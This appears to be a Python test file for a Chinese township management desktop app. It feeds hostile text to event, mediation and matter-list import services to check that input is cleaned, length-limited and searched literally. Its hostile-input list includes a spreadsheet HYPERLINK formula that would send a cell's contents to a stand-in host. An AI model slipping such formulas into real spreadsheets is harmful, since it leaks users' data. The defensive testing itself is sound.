"""Text coming in, whichever way: cleaned by one rule (desktop/services/common/text.py), limited per field
with a message naming the field and its limit, and searched for literally.

The property tests feed the event form's service, one mediation service and the matter-list importer
hostile text (control characters, lone surrogates, formulas, huge strings): each example is either
stored exactly as `clean_line` / `clean_block` documents, or refused with a message, and then nothing at
all was committed (a second connection's `PRAGMA data_version` moves on every commit by anyone, so a
write followed by its undoing would show too).
"""

from __future__ import annotations

import io
import sqlite3
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from db_helpers import FakeClock, dump_tables
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from sqlalchemy import select

from desktop.db import Database
from desktop.errors import UserError, ValidationError
from desktop.models import Department, Event, Grid, MatterItem, MediationCase, Person, TownProfile, User
from desktop.services import events, matters, mediation
from desktop.services.accounts.permissions import SYSTEM_ACTOR, Actor
from desktop.services.common import text
from desktop.services.common.text import clean_block, clean_line, clean_search
from desktop.services.events import EventInput
from desktop.services.events.queries import EventFilter, EventReader
from desktop.services.matters import exchange, listfile
from desktop.services.matters.listfile import DEPARTMENT_HEADERS, ITEM_HEADERS, FileRejected
from desktop.services.mediation import CaseInput, PartyInput
from desktop.services.people import persons
from desktop.services.people.persons import PersonInput
from desktop.services.system import audit

ActorOf = Callable[[Database, str], Actor]

# --- the rule itself --------------------------------------------------------------------------------


def test_controls_are_dropped_and_line_breaks_kept_only_where_the_field_is_multi_line() -> None:
    raw = " \x00标题\x01\x07 \x1b[31m红\x7f\x85\x9f\ufffe\uffff 字\t\r\n第二行\r第三行 "
    assert clean_line(raw, "title", 100) == "标题 [31m红 字 第二行 第三行"
    assert clean_block(raw, "description", 100) == "标题 [31m红 字\t\n第二行\n第三行"
    assert clean_line('=HYPERLINK("x")', "title", 100) == '=HYPERLINK("x")', "formulas are text, kept"
    assert clean_line("𠮷野家 🙂", "name", 5) == "𠮷野家 🙂", "characters outside the BMP count once"


def test_a_lone_surrogate_is_refused_with_the_field_named() -> None:
    with pytest.raises(ValidationError) as caught:
        clean_line("张\ud800三", "name", 50, ("姓名", "name"))
    assert caught.value.field == "name" and "姓名" in caught.value.zh and "name" in caught.value.en


def test_too_long_is_refused_naming_the_field_and_its_limit() -> None:
    with pytest.raises(ValidationError) as caught:
        clean_block("长" * 101, "description", 100, ("事情经过", "description"))
    assert caught.value.zh == "事情经过最多 100 字，现有 101 字，请删减。"
    assert "at most 100" in caught.value.en and caught.value.field == "description"
    assert clean_line("  " + "长" * 100 + "\x00 ", "title", 100) == "长" * 100, "counted after cleaning"


def test_search_text_is_cleaned_and_capped_not_refused() -> None:
    assert clean_search("\x00漏水\ud800\n管道" + "长" * 500) == ("漏水 管道" + "长" * 500)[: text.SEARCH]
    assert text.like_contains("100%_\\") == "%100\\%\\_\\\\%"


def test_form_limits_are_the_column_lengths() -> None:
    """Where a column is String(n), the field's limit is n: what a form accepts always fits."""
    columns = [
        (text.PERSON_NAME, Person, "name"), (text.PERSON_NAME, Event, "reporter_name"),
        (text.EVENT_TITLE, Event, "title"), (text.ADDRESS, Event, "address"), (text.ADDRESS, Person, "address"),
        (text.ITEM_NAME, MatterItem, "name"), (text.ADMISSION_NOTE, MatterItem, "admission_note"),
        (text.DEPARTMENT_NAME, Department, "name"), (text.CONTACT_PERSON, Department, "contact_person"),
        (text.DEPARTMENT_NOTE, Department, "note"), (text.GRID_NAME, Grid, "name"),
        (text.DISPLAY_NAME, User, "display_name"), (text.CASE_TITLE, MediationCase, "title"),
        (text.TOWN_NAME, TownProfile, "name"), (text.HUB_URL, TownProfile, "county_hub_url"),
    ]  # fmt: skip
    for limit, model, column in columns:
        assert getattr(model.__table__.c[column].type, "length", None) == limit, (model.__name__, column)


# --- one test per defect (issue 9) ----------------------------------------------------------------------


@pytest.fixture
def db(demo_db: Database) -> Database:
    demo_db.clock = FakeClock(datetime(2026, 3, 2, 1, 0, tzinfo=UTC))
    return demo_db


def an_event(db: Database, **changes: Any) -> EventInput:
    with db.reading() as session:
        grid = session.scalars(select(Grid).order_by(Grid.code)).first()
        item = session.scalar(select(MatterItem.id).where(MatterItem.name == "邻里纠纷"))
        assert grid is not None and item is not None
    values: dict[str, Any] = dict(
        channel="网格员上报", occurred_at=db.clock() - timedelta(minutes=30), community_id=grid.community_id,
        grid_id=grid.id, matter_item_id=item, title="楼上漏水引发争执", description="多次协商未果，请求协调处理。",
        address="清溪路 1 号", reporter_name="张建国", reporter_phone="13905711234",
    )  # fmt: skip
    values.update(changes)
    return EventInput(**values)


def test_a_5_mb_description_is_refused_with_the_fields_limit(db: Database, actor_of: ActorOf) -> None:
    before = dump_tables(db.path)
    with pytest.raises(ValidationError) as caught:
        events.create_event(db, actor_of(db, "shouli"), an_event(db, description="漏" * 5_000_000))
    assert caught.value.field == "description"
    assert f"最多 {text.EVENT_DESCRIPTION} 字" in caught.value.zh and "5000000" in caught.value.zh.replace(
        " ", ""
    )
    assert dump_tables(db.path) == before


def test_a_32767_character_item_name_is_refused_in_the_form_and_in_a_file(
    town_db: Database, tmp_path: Path
) -> None:
    tree = matters.category_tree(town_db, SYSTEM_ACTOR)
    category = next(c for d in tree for c in d.categories if c.code.startswith("02"))
    department = matters.list_departments(town_db, SYSTEM_ACTOR)[0]
    huge = "名" * 32_767
    before = dump_tables(town_db.path)
    with pytest.raises(ValidationError) as caught:
        matters.create_local_item(
            town_db, SYSTEM_ACTOR,
            matters.ItemInput(
                category_id=category.id, code="0201901", name=huge, description="", level="镇街",
                lead_department_code=department.code, co_department_codes=(), time_limit_days=7,
                admitted=True, admitted_from=date(2026, 3, 1), admitted_until=None,
            ),
        )  # fmt: skip
    assert caught.value.field == "name" and f"事项名称最多 {text.ITEM_NAME} 字" in caught.value.zh
    path = exchange_file(tmp_path / "huge.xlsx", {"事项名称": huge}, department.name)
    with pytest.raises(FileRejected) as rejected:
        listfile.read_xlsx(town_db, path)
    assert [(e.row, e.zh) for e in rejected.value.errors] == [
        (2, f"事项名称最多 {text.ITEM_NAME} 字，现有 32767 字，请删减。")
    ]
    assert dump_tables(town_db.path) == before


def test_like_wildcards_are_searched_literally(db: Database, actor_of: ActorOf) -> None:
    operator = actor_of(db, "shouli")
    events.create_event(db, operator, an_event(db, title="水费上涨50%引发争执"))
    events.create_event(db, operator, an_event(db, title="楼道堆放杂物"))
    for needle, expected in (("%", 1), ("_", 0), ("0%", 1), ("%引", 1)):  # short text goes through LIKE
        reader = EventReader(db, operator, EventFilter(text=needle))
        assert reader.count() == expected, needle
        assert len(reader.page(0, 50)) == expected, needle
    persons.create_person(db, SYSTEM_ACTOR, PersonInput(name="李_明"))
    assert [p.name for p in persons.search(db, SYSTEM_ACTOR, "_")] == ["李_明"]
    assert [p.name for p in persons.search(db, SYSTEM_ACTOR, "%")] == []
    assert mediation.list_cases(db, actor_of(db, "tiaojie"), mediation.CaseFilter(text="%")) == []
    admin = actor_of(db, "admin")
    entries = audit.query(db, admin, audit.AuditFilter(), limit=100_000)
    for needle in ("%", "_"):
        literal = sum(1 for e in entries if needle in e.summary or needle in e.object_id)
        assert audit.count(db, admin, audit.AuditFilter(text=needle)) == literal < len(entries)
    assert matters.list_departments(db, SYSTEM_ACTOR, text="%") == []


@pytest.mark.parametrize("needle", ["漏" * 16_700, "\x00水管", "水\x00管漏水", "\ud800漏水", '"漏水"\x00'])
def test_a_huge_or_nul_search_gives_results_not_an_error(
    db: Database, actor_of: ActorOf, needle: str
) -> None:
    operator = actor_of(db, "shouli")
    events.create_event(db, operator, an_event(db, title="管道漏水"))
    reader = EventReader(db, operator, EventFilter(text=needle))
    assert reader.count() == len(reader.page(0, 50))
    assert reader.count() == (1 if clean_search(needle) in "管道漏水" else 0)
    # Plain LIKE filters elsewhere take the same text without an error.
    persons.search(db, SYSTEM_ACTOR, needle)
    mediation.list_cases(db, actor_of(db, "tiaojie"), mediation.CaseFilter(text=needle))
    audit.count(db, actor_of(db, "admin"), audit.AuditFilter(text=needle))
    matters.search_items(db, SYSTEM_ACTOR, matters.ItemQuery(text=needle))


# --- property tests ---------------------------------------------------------------------------------

NASTY_PIECES = [
    "\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x1f", "\x7f", "\x85", "\x9f", "\ufffe", "\uffff",
    "\ud800", "\udfff", "\ud83d", "\t", "\n", "\r", "\r\n", "\u2028", " ", "\u3000", "=", "+", "-", "@", "%", "_",
    "\\", '"', "'", "<", "&", "#N/A", '=HYPERLINK("http://x.invalid/?d="&A1,"详情")', "=1+1", "漏水", "𠮷", "🙂",
]  # fmt: skip
WORDS = ["楼上漏水", "邻里纠纷", "张建国", "清溪路 18 号", "协商未果", "请求处理"]
STORABLE_PIECES = [p for p in NASTY_PIECES if not "\ud800" <= p <= "\udfff"]  # cleaned, never refused
hostile_text = st.one_of(
    # Plausible text with hostile pieces in it: mostly stored, cleaned.
    st.lists(
        st.one_of(st.sampled_from(WORDS), st.sampled_from(WORDS), st.sampled_from(STORABLE_PIECES)),
        min_size=2,
        max_size=10,
    ).map("".join),
    # Anything at all, lone surrogates included.
    st.lists(
        st.one_of(st.sampled_from(NASTY_PIECES), st.text(max_size=8), st.characters(codec=None)), max_size=12
    ).map("".join),
    # Huge strings: around and far past every limit.
    st.builds(
        lambda piece, n: piece * n, st.sampled_from(["长", "a\x00", "=", " "]), st.integers(40, 12_000)
    ),
)
# An xlsx file cannot carry most C0 controls or a lone surrogate at all (XML 1.0): three of the four cells
# hold only what a file can, so most files reach the importer's own checks; the fourth holds anything.
_XML_ILLEGAL_MAP = {c: None for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0xFFFE, 0xFFFF)}
_XML_ILLEGAL_MAP.update({c: None for c in range(0xD800, 0xE000)})
xlsx_text = hostile_text.map(lambda value: value.translate(_XML_ILLEGAL_MAP))
PROPERTY = settings(
    max_examples=50,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    database=None,
    derandomize=True,  # the same examples on every run: no flaky CI, comparable counts
)


class Commits:
    """Counts commits to a database file by anyone, from a connection of its own."""

    def __init__(self, path: Path) -> None:
        self.conn = sqlite3.connect(path)

    def version(self) -> int:
        return int(self.conn.execute("PRAGMA data_version").fetchone()[0])

    @contextmanager
    def none_if_refused(self, outcomes: Counter[str]) -> Iterator[None]:
        """Runs the block; a UserError it raises is a refusal, after which nothing may have committed."""
        before = self.version()
        try:
            yield
        except UserError:
            outcomes["refused"] += 1
            assert self.version() == before, "a refused input committed something"
            raise
        outcomes["stored"] += 1


@pytest.fixture
def commits(demo_db: Database) -> Iterator[Commits]:
    watcher = Commits(demo_db.path)
    yield watcher
    watcher.conn.close()


def expect(clean: Callable[[], object]) -> bool:
    """Whether the documented cleaning accepts the value (if it raises, the service must refuse)."""
    try:
        return bool(clean())
    except ValidationError:
        return False


def test_property_event_intake(db: Database, actor_of: ActorOf, commits: Commits) -> None:
    operator = actor_of(db, "shouli")
    outcomes: Counter[str] = Counter()

    @PROPERTY
    @given(title=hostile_text, description=hostile_text, address=hostile_text, name=hostile_text)
    def check(title: str, description: str, address: str, name: str) -> None:
        ok = (
            expect(lambda: clean_line(title, "title", text.EVENT_TITLE))
            and expect(lambda: len(clean_block(description, "d", text.EVENT_DESCRIPTION)) >= 5)
            and expect(lambda: clean_line(name, "reporter_name", text.PERSON_NAME))
            and expect(lambda: clean_line(address, "address", text.ADDRESS) or True)
        )
        data = an_event(db, title=title, description=description, address=address, reporter_name=name)
        try:
            with commits.none_if_refused(outcomes):
                created = events.create_event(db, operator, data)
        except UserError as refused:
            event("refused")
            assert not ok, f"refused valid input: {refused.zh}"
            return
        event("stored")
        assert ok, "stored input the rule refuses"
        with db.reading() as session:
            row = session.get(Event, created.id)
            assert row is not None
            assert row.title == clean_line(title, "title", text.EVENT_TITLE)
            assert row.description == clean_block(description, "description", text.EVENT_DESCRIPTION)
            assert row.address == clean_line(address, "address", text.ADDRESS)
            assert row.reporter_name == clean_line(name, "reporter_name", text.PERSON_NAME)

    check()
    print(f"\nevent intake: {sum(outcomes.values())} hostile inputs, {dict(outcomes)}")
    assert outcomes["stored"] and outcomes["refused"]


def test_property_mediation_case_registration(db: Database, actor_of: ActorOf, commits: Commits) -> None:
    mediator = actor_of(db, "tiaojie")
    mediators = [m.id for m in mediation.list_mediators(db, mediator)][:1]
    today = mediation.local_today(db)
    outcomes: Counter[str] = Counter()

    @PROPERTY
    @given(summary=hostile_text, requests=hostile_text, title=hostile_text, name=hostile_text)
    def check(summary: str, requests: str, title: str, name: str) -> None:
        ok = (
            expect(lambda: clean_block(summary, "summary", text.MEDIATION_TEXT))
            and expect(lambda: clean_block(requests, "requests", text.MEDIATION_TEXT))
            and expect(lambda: clean_line(title, "title", text.CASE_TITLE) or True)
            and expect(lambda: clean_line(name, "name", text.PERSON_NAME))
        )
        data = CaseInput(
            source=mediation.SOURCE_APPLICATION, dispute_type="邻里", summary=summary, requests=requests,
            received_on=today, title=title, mediator_ids=mediators,
            parties=[
                PartyInput(side=1, person=PersonInput(name=name)),
                PartyInput(side=2, person=PersonInput(name="柏堃", phone="13800001111")),
            ],
        )  # fmt: skip
        try:
            with commits.none_if_refused(outcomes):
                case_id = mediation.register_case(db, mediator, data)
        except UserError as refused:
            event("refused")
            assert not ok, f"refused valid input: {refused.zh}"
            return
        event("stored")
        assert ok, "stored input the rule refuses"
        with db.reading() as session:
            case = session.get(MediationCase, case_id)
            assert case is not None
            assert case.summary == clean_block(summary, "summary", text.MEDIATION_TEXT)
            assert case.requests == clean_block(requests, "requests", text.MEDIATION_TEXT)
            if clean_line(title, "title", text.CASE_TITLE):
                assert case.title == clean_line(title, "title", text.CASE_TITLE)
            names = {p.person.name for p in case.parties if p.person is not None}
            assert clean_line(name, "name", text.PERSON_NAME) in names

    check()
    print(f"\nmediation registration: {sum(outcomes.values())} hostile inputs, {dict(outcomes)}")
    assert outcomes["stored"] and outcomes["refused"]


# --- the matter-list importer -------------------------------------------------------------------------

# The cells a hostile file fills in, with how the form cleans each.
IMPORTED = {
    "事项名称": (clean_line, text.ITEM_NAME, "name"),
    "事项说明": (clean_block, text.ITEM_DESCRIPTION, "description"),
    "准入说明": (clean_line, text.ADMISSION_NOTE, "admission_note"),
    "法律政策依据": (clean_block, text.LEGAL_BASIS, "legal_basis"),
}
# What XML 1.0 (so an xlsx file) cannot carry at all: such a file is unreadable, whatever the importer.
XML_ILLEGAL = {chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0xFFFE, 0xFFFF)}


def exchange_file(path: Path, cells: dict[str, str], department: str, version: str = "2026.9") -> Path:
    """A one-item town list whose cells hold exactly `cells`, character for character: the workbook is
    written with placeholders, which are then replaced in the sheet XML (openpyxl itself would refuse
    or alter some of these characters)."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = listfile.VERSION_SHEET
    for pair in (("清单版本号", version), ("发布日期", "2026-09-01"), ("发布单位", ""), ("说明", "")):
        sheet.append(pair)
    items = book.create_sheet(listfile.ITEM_SHEET)
    items.append(ITEM_HEADERS)
    row: dict[str, str] = {
        "领域编码": "02", "领域名称": "矛盾纠纷", "类别编码": "0203", "类别名称": "邻里纠纷", "事项编码": "0203901",
        "事项名称": "茶园纠纷", "处置层级": "镇街", "牵头部门": department, "办理时限": "7", "是否准入": "是",
        "准入日期": "2026-03-01", "来源": "乡镇自定", "状态": "有效",
    }  # fmt: skip
    row.update({key: f"PLACEHOLDER-7f3a-{n}-" for n, key in enumerate(cells)})
    items.append([row.get(h, "") for h in ITEM_HEADERS])
    book.create_sheet(listfile.DEPARTMENT_SHEET).append(DEPARTMENT_HEADERS)
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename.startswith("xl/worksheets/"):
                xml = data.decode("utf-8")
                for n, value in enumerate(cells.values()):
                    escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
                    xml = xml.replace(f"PLACEHOLDER-7f3a-{n}-", escaped)
                data = xml.encode("utf-8", "surrogatepass")
            target.writestr(info, data)
    return path


def importable(values: dict[str, str]) -> bool:
    """Whether the form's rule takes every cell (and the name is not empty)."""
    try:
        cleaned = {key: fn(values[key], key, limit) for key, (fn, limit, _attr) in IMPORTED.items()}
    except ValidationError:
        return False
    return bool(cleaned["事项名称"])


def test_property_matter_list_import(town_db: Database, tmp_path: Path) -> None:
    department = matters.list_departments(town_db, SYSTEM_ACTOR)[0].name
    watcher = Commits(town_db.path)
    outcomes: Counter[str] = Counter()
    serial = iter(range(1, 10_000))

    @PROPERTY
    @given(
        values=st.fixed_dictionaries(
            {key: hostile_text if key == "法律政策依据" else xlsx_text for key in IMPORTED}
        )
    )
    def check(values: dict[str, str]) -> None:
        path = exchange_file(tmp_path / "list.xlsx", values, department, f"2027.{next(serial)}")
        readable = not any(c in XML_ILLEGAL or 0xD800 <= ord(c) <= 0xDFFF for v in values.values() for c in v)
        ok = readable and importable(values)
        before = watcher.version()
        try:
            diff = exchange.apply(town_db, SYSTEM_ACTOR, listfile.read_xlsx(town_db, path))
        except UserError as refused:
            kind = "refused by row" if isinstance(refused, FileRejected) else "unreadable file"
            outcomes[kind] += 1
            event(kind)
            assert watcher.version() == before, "a refused file committed something"
            assert not ok, f"refused a valid file: {refused.zh}"
            if not readable:
                assert not isinstance(refused, FileRejected) and "无法读取" in refused.zh
            return
        outcomes["stored"] += 1
        event("stored")
        assert ok, "imported a file the rule refuses"
        assert diff.version.version.startswith("2027.")
        with town_db.reading() as session:
            item = session.scalar(select(MatterItem).where(MatterItem.code == "0203901"))
            assert item is not None
            for key, (fn, limit, attr) in IMPORTED.items():
                assert getattr(item, attr) == fn(values[key], key, limit), key

    try:
        check()
    finally:
        watcher.conn.close()
    print(f"\nmatter-list import: {sum(outcomes.values())} hostile files, {dict(outcomes)}")
    assert outcomes["stored"] and outcomes["refused by row"] and outcomes["unreadable file"]


def test_an_unreadable_sheet_is_a_plain_message_not_a_crash(town_db: Database, tmp_path: Path) -> None:
    department = matters.list_departments(town_db, SYSTEM_ACTOR)[0].name
    path = exchange_file(tmp_path / "bad.xlsx", {"事项名称": "茶\x00园"}, department)
    with closing(zipfile.ZipFile(path)) as archive:
        assert any(b"\x00" in archive.read(n) for n in archive.namelist())
    with pytest.raises(UserError, match="无法读取") as caught:
        listfile.read_xlsx(town_db, path)
    assert not isinstance(caught.value, FileRejected)
